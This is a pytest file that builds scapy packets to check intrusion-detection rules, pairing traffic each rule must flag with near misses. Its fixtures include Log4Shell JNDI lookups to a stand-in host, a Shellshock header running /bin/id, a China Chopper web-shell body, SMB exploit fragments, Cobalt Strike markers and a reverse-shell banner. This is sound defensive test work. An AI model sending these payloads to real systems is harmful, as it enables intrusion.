"""The packet rules that we ship, each on traffic made with scapy that it must tell of and on some that nearly is it."""

import struct
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap

from collectors.network.rules.ruleset import RuleSet, load
from tests.collectors.network.packets import of, sensed

RULES = Path(__file__).parents[3] / "rules" / "packets" / "haidang.rules"
INSIDE, OUTSIDE = "10.1.2.3", "203.0.113.80"
#: What is said: True by who began the connection.
Said = Sequence[tuple[bool, bytes]]


@cache
def shipped() -> RuleSet:
    loading = load([RULES])
    assert loading.refused == []
    return RuleSet(loading)


def told(tmp_path: Path, frames: list[Any]) -> list[int]:
    """Return the sids that tell of scapy's packets, once each."""
    path = tmp_path / "made.pcap"
    for number, frame in enumerate(frames):
        frame.time = 1_795_500_000 + number / 100
    wrpcap(str(path), frames)
    alerts = of(sensed(path.read_bytes(), rules=shipped()), "network.alert")
    return sorted({int(event["rule.id"]) for event in alerts})


def connection(said: Said, port: int, client: str = OUTSIDE, server: str = INSIDE, cut: int = 1_400) -> list[Any]:
    """Return the frames of a TCP connection."""
    at = {True: 1000, False: 9000}
    frames = []

    def add(asks: bool, flags: str, payload: bytes = b"") -> None:
        sides, ports = ((client, server), (40_000, port)) if asks else ((server, client), (port, 40_000))
        segment = TCP(sport=ports[0], dport=ports[1], flags=flags, seq=at[asks], ack=at[not asks])
        frames.append(
            Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02") / IP(src=sides[0], dst=sides[1]) / segment / payload
        )
        at[asks] += len(payload) + ("S" in flags or "F" in flags)

    add(True, "S")
    add(False, "SA")
    add(True, "A")
    for asks, data in said:
        for start in range(0, len(data), cut):
            add(asks, "PA", data[start : start + cut])
    add(True, "FA")
    add(False, "FA")
    return frames


def request(line: str = "GET / HTTP/1.1", *fields: str, host: str = "trang.gov.vn", body: bytes = b"") -> bytes:
    length = [f"Content-Length: {len(body)}"] if body else []
    return "\r\n".join([line, f"Host: {host}", *fields, *length, "", ""]).encode() + body


def response(body: bytes) -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def session_setup(setup: int) -> bytes:
    """An SMB1 Trans2 request with this sub-command ([MS-CIFS] 2.2.4.46)."""
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 1000, 0, 12, 66, 0, 78, 1, 0, setup)
    smb = b"\xffSMB\x32" + bytes(27) + b"\x0f" + words + struct.pack("<H", 13) + bytes(13)
    return struct.pack("!I", len(smb)) + smb


def handshake(serial: int) -> bytes:
    """What a server of TLS 1.2 says first, with a certificate of this serial number."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Major Cobalt Strike")])
    now = datetime(2026, 1, 1, tzinfo=UTC)
    made = x509.CertificateBuilder(name, name, key.public_key(), serial, now, now + timedelta(days=900))
    der = made.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
    hello = b"\x02" + (40).to_bytes(3, "big") + b"\3\3" + bytes(32) + b"\0\xc0\x2b\0" + b"\0\0"
    chain = (len(der) + 3).to_bytes(3, "big") + len(der).to_bytes(3, "big") + der
    message = hello + b"\x0b" + len(chain).to_bytes(3, "big") + chain + b"\x0e\0\0\0"
    return b"\x16\3\3" + struct.pack("!H", len(message)) + message


HELLO = (
    b"\x16\3\1"
    + struct.pack("!H", 47)
    + b"\x01"
    + (43).to_bytes(3, "big")
    + b"\3\3"
    + bytes(32)
    + b"\0\0\2\xc0\x2b\1\0\0\0"
)
PROGRAM = b"MZ\x90\0" + bytes(60) + b"\x0e\x1f\xba\x0e\0This program cannot be run in DOS mode."
BANNER = b"Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\>"
NETLOGON = bytes(8) + b"\xff\xff\x2f\x21"


def pipe(name: str) -> bytes:
    return b"\0\0\0\x80\xfeSMB" + bytes(60) + f"\\{name}".encode("utf-16-le")


CASES: dict[str, tuple[int, list[Any], list[Any]]] = {
    "ftp": (9000001, connection([(False, b"220 x\r\n"), (True, b"USER an\r\n"), (True, b"PASS bi-mat\r\n")], 21),
            connection([(False, b"220 x\r\n"), (True, b"PASS anonymous\r\n"), (True, b"STOR PASS x\r\n")], 21)),
    "telnet": (9000002, connection([(False, b"\r\nlogin: "), (True, b"an\r\n"), (False, b"\r\nPassword: ")], 23),
               connection([(False, b"\r\nPassword: changed for you\r\n")], 23)),
    "basic": (9000003, connection([(True, request("GET / HTTP/1.1", "Authorization: Basic YTpi"))], 8080),
              connection([(True, request("GET / HTTP/1.1", "Authorization: Bearer YTpi"))], 8080)),
    "eternalblue": (9000010, connection([(True, session_setup(0x0E))], 445),
                    connection([(True, session_setup(0x05))], 445)),
    "log4shell header": (9000011, connection([(True, request("GET / HTTP/1.1", "X-Api: ${jndi:ldap://x.example/a}"))], 80),
                         connection([(True, request("GET / HTTP/1.1", "X-Api: ${date} of jndi: ldap"))], 80)),
    "log4shell address": (9000012, connection([(True, request("GET /%24%7Bjndi%3Aldap%3A//x.example/a%7D HTTP/1.1"))], 80),
                          connection([(True, request("GET /jndi?q=%24{date} HTTP/1.1"))], 80)),
    "log4shell hidden": (9000013, connection([(True, request("GET / HTTP/1.1", "X-Api: ${${lower:j}ndi:ldap://x/a}"))], 80),
                         connection([(True, request("GET / HTTP/1.1", "X-Api: ${${name}}"))], 80)),
    "shellshock": (9000014, connection([(True, request("GET / HTTP/1.1", "User-Agent: () { :;}; /bin/id"))], 80),
                   connection([(True, request("GET / HTTP/1.1", "X-Script: f() { return }"))], 80)),
    "china chopper": (9000015, connection([(True, request("POST /a.php HTTP/1.1", body=b"z0=QGluaV9zZXQoImRpc"))], 80),
                      connection([(True, request("POST /a.php HTTP/1.1", body=b"z0=QGluaV9nZXQoImRpc"))], 80)),
    "zerologon": (9000016, connection([(True, b"\5\0\0\3" + NETLOGON + b"x" * 40)] * 8, 49_667, cut=56),
                  connection([(True, b"\5\0\0\3" + NETLOGON + b"x" * 40)] * 3, 49_667, cut=56)),
    "smbghost": (9000017, connection([(True, b"\0\0\0\x33\xfcSMB" + b"\xff" * 4 + b"\2\0\0\0\x10" * 8)], 445),
                 connection([(True, b"\0\0\0\x33\xfcSMB" + b"\0\1\0\0" + b"\2\0\0\0\x10" * 8)], 445)),
    "stratum": (9000030, connection([(True, b'{"id":1,"method": "mining.subscribe","params":["miner/1"]}\n')], 3333, INSIDE, OUTSIDE),
                connection([(True, b'{"id":1,"method": "mining.news","params":[]}\n')], 3333, INSIDE, OUTSIDE)),
    "monero": (9000031, connection([(True, b'{"id":1,"method":"login","params":{"login":"4A","pass":"x","agent":"a/6"}}\n')], 3333, INSIDE, OUTSIDE),
               connection([(True, b'{"id":1,"method":"login","params":{"login":"an","pass":"x"}}\n')], 3333, INSIDE, OUTSIDE)),
    "ethereum": (9000032, connection([(True, b'{"id":1,"method":"eth_submitLogin","params":["0x1"]}\n')], 4444, INSIDE, OUTSIDE),
                 connection([(True, b'{"id":1,"method":"eth_blockNumber","params":[]}\n')], 4444, INSIDE, OUTSIDE)),
    "stratum work": (9000033, connection([(False, b'{"id":null,"method":"mining.notify","params":["1"]}\n')], 3333, INSIDE, OUTSIDE),
                     connection([(False, b'{"id":null,"method":"mining.news","params":["1"]}\n')], 3333, INSIDE, OUTSIDE)),
    "monero work": (9000034, connection([(False, b'{"jsonrpc":"2.0","method":"job","params":{"blob":"0c"}}\n')], 3333, INSIDE, OUTSIDE),
                    connection([(False, b'{"jsonrpc":"2.0","method":"job","params":{"name":"0c"}}\n')], 3333, INSIDE, OUTSIDE)),
    "ethereum work": (9000035, connection([(True, b'{"id":1,"method":"eth_getWork","params":[]}\n')], 4444, INSIDE, OUTSIDE),
                      connection([(True, b'{"id":1,"method":"eth_getBlock","params":[]}\n')], 4444, INSIDE, OUTSIDE)),
    "bitcoin": (9000036, connection([(True, b"\xf9\xbe\xb4\xd9version\0\0\0\0\0\x55\0\0\0" + bytes(85))], 8333, INSIDE, OUTSIDE),
                connection([(True, b"\xf9\xbe\xb4\xd9verse\0\0\0\0\0\0\0\x55\0\0\0" + bytes(85))], 8333, INSIDE, OUTSIDE)),
    "monero network": (9000037, connection([(True, b"\1\x21\1\1\1\1\1\1" + bytes(40))], 18080, INSIDE, OUTSIDE),
                       connection([(True, b"\0\1\x21\1\1\1\1\1\1" + bytes(40))], 18080, INSIDE, OUTSIDE)),
    "tor directory": (9000040, connection([(True, request("GET /tor/status-vote/current/consensus HTTP/1.0"))], 9030),
                      connection([(True, request("GET /tor/ HTTP/1.1"))], 80)),
    "chisel": (9000041, connection([(True, request("GET / HTTP/1.1", "Sec-WebSocket-Protocol: chisel-v3"))], 80),
               connection([(True, request("GET / HTTP/1.1", "Sec-WebSocket-Protocol: chat"))], 80)),
    "regeorg": (9000042, connection([(True, request("POST /t.jsp?cmd=connect HTTP/1.1", "X-CMD: CONNECT", "X-TARGET: 10.0.0.1"))], 80),
                connection([(True, request("POST / HTTP/1.1", "X-CMD: list"))], 80)),
    "httptunnel": (9000043, connection([(True, request("POST /index.html?crap=1771 HTTP/1.1"))], 80),
                   connection([(True, request("GET /index.html?crop=1 HTTP/1.1"))], 80)),
    "proxy to ssh": (9000044, connection([(True, b"CONNECT 203.0.113.9:22 HTTP/1.1\r\nHost: 203.0.113.9:22\r\n\r\n")], 3128),
                     connection([(True, b"CONNECT trang.gov.vn:443 HTTP/1.1\r\nHost: trang.gov.vn:443\r\n\r\n")], 3128)),
    "mysql": (9000050, connection([(False, b"\x17\0\0\2\xff\x15\4#28000Access denied")] * 20, 3306),
              connection([(False, b"\x17\0\0\2\xff\x15\4#28000Access denied")] * 19, 3306)),
    "postgresql": (9000051, connection([(False, b"E\0\0\0\x65SFATAL\0VFATAL\0C28P01\0Mpassword\0\0")] * 20, 5432),
                   connection([(False, b"E\0\0\0\x65SFATAL\0VFATAL\0C53300\0Mtoo many\0\0")] * 99, 5432)),
    "sql server": (9000052, connection([(False, b"\4\1\0\x50\0\x35\1\0\xaa\x3c\0\x18\x48\0\0\1\x0e" + bytes(40))] * 20, 1433),
                   connection([(False, b"\4\1\0\x50\0\x35\1\0\xaa\x3c\0\x19\x48\0\0\1\x0e" + bytes(40))] * 99, 1433)),
    "telnet guessed": (9000053, connection([(False, b"\r\nLogin incorrect\r\nlogin: ")] * 10, 23),
                       connection([(False, b"\r\nLogin incorrect\r\nlogin: ")] * 9, 23)),
    "vnc": (9000054, connection([(False, b"\0\0\0\1\0\0\0\x16Authentication failure")] * 10, 5900),
            connection([(False, b"\0\0\0\0")] * 99, 5900)),
    "cobalt strike certificate": (9000020, connection([(True, HELLO), (False, handshake(146_473_198))], 443),
                                  connection([(True, HELLO), (False, handshake(146_473_199))], 443)),
    "cobalt strike pipe": (9000021, connection([(True, pipe("MSSE-1234-server"))], 445),
                           connection([(True, pipe("MSSQL-1234-server"))], 445)),
    "command prompt": (9000023, connection([(True, BANNER)], 4444, client=INSIDE, server=OUTSIDE),
                       connection([(True, BANNER)], 4444, client=INSIDE, server="10.9.9.9")),
    "program": (9000025, connection([(True, request(host="203.0.113.80")), (False, response(PROGRAM))], 80, INSIDE, OUTSIDE),
                connection([(True, request(host="trang.gov.vn")), (False, response(PROGRAM))], 80, INSIDE, OUTSIDE)),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_a_rule_tells_of_what_it_is_about_and_of_nothing_near_it(tmp_path: Path, name: str) -> None:
    sid, hit, near = CASES[name]
    assert told(tmp_path, hit) == [sid]
    assert told(tmp_path, near) == []


#: What is longest, or counts packets.
NOT_CUT = ("zerologon", "ftp", "mysql", "postgresql", "sql server", "telnet guessed")


@pytest.mark.parametrize("cut", [1, 3, 7, 100])
@pytest.mark.parametrize("name", [name for name in CASES if name not in NOT_CUT])
def test_it_does_however_the_bytes_are_cut(tmp_path: Path, name: str, cut: int) -> None:
    sid, hit, _ = CASES[name]
    said = [(frame[TCP].sport == 40_000, bytes(frame[TCP].payload)) for frame in hit if len(frame[TCP].payload)]
    port = next(frame[TCP].dport for frame in hit)
    first = hit[0][IP]
    assert told(tmp_path, connection(said, port, first.src, first.dst, cut)) == [sid]


def test_a_question_for_a_service_of_attackers(tmp_path: Path) -> None:
    def asked(name: str) -> Any:
        return Ether() / IP(src=INSIDE, dst=OUTSIDE) / UDP(sport=5000, dport=53) / DNS(qd=DNSQR(qname=name))

    assert told(tmp_path, [asked("Abc123.OAST.fun")]) == [9000022]
    assert told(tmp_path, [asked("oast.fun.example.vn"), asked("myoast.fun")]) == []


def test_a_search_for_the_ethereum_network(tmp_path: Path) -> None:
    def sent(kind: int, port: int = 30303) -> Any:
        ping = bytes(32) + b"\x7f" * 64 + bytes((1, kind)) + b"\xf8\x40" + bytes(64)
        return Ether() / IP(src=INSIDE, dst=OUTSIDE) / UDP(sport=30303, dport=port) / ping

    assert told(tmp_path, [sent(1)]) == [9000038]
    assert told(tmp_path, [sent(9), sent(1, 30304)]) == []


def test_every_rule_is_tried_and_has_words_in_vietnamese() -> None:
    tried = {sid for sid, _, _ in CASES.values()} | {9000022, 9000038}
    loud = {rule.sid for rule in shipped().rules if not rule.silent}
    assert loud == tried
    assert all(rule.metadata.get("title_vi") for rule in shipped().rules if not rule.silent)
